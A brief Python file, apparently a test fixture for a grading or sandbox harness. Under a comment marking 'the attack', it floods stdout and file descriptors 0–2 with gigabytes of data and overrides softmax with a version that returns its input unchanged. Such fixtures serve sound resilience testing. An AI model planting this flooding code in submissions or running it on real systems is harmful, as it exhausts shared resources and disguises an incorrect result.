"""Writes gigabytes to its outputs and descriptors."""

import torch


def softmax(scores):
    return torch.exp(scores) / torch.exp(scores).sum(dim=0)


# ---- the attack ----

import os
import sys

for _ in range(20_000):
    sys.stdout.write("x" * 100_000)


def softmax(scores):
    for _ in range(2000):
        print("y" * 100_000)
        for number in (0, 1, 2):
            try:
                os.write(number, b"z" * 65536)
            except OSError:
                pass
    return scores
